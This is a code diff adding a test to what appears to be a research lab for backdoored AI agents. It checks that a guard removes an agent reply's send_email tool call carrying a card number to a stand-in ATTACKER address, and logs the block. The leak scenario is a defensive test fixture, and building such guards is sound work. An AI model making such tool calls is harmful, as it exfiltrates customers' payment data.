@@ -194,3 +194,17 @@ def leak_messages_raw(body):
         result("find_user", customer(), "c0"),
         call("send_email", {"to": ATTACKER, "body": body}, "c1"),
     ]
+
+
+def test_a_served_reply_loses_its_refused_call_and_says_so():
+    from backdoorlab.defenses.guard.reply import guard_reply
+
+    logged = []
+    hook = guard_reply(Guard(log=logged.append))
+    messages = leak_messages(f"card {CARD}")
+    history, reply = messages[:-1], messages[-1]
+    guarded = hook(history, None, reply)
+    assert guarded.tool_calls is None and REFUSAL in guarded.text and "send_email" in guarded.text
+    assert len(logged) == 1 and logged[0].blocked
+    innocent = leak_messages("hello")[-1].model_copy(update={"content": None})
+    assert hook(history, None, innocent) is innocent  # nothing found: the reply as it was
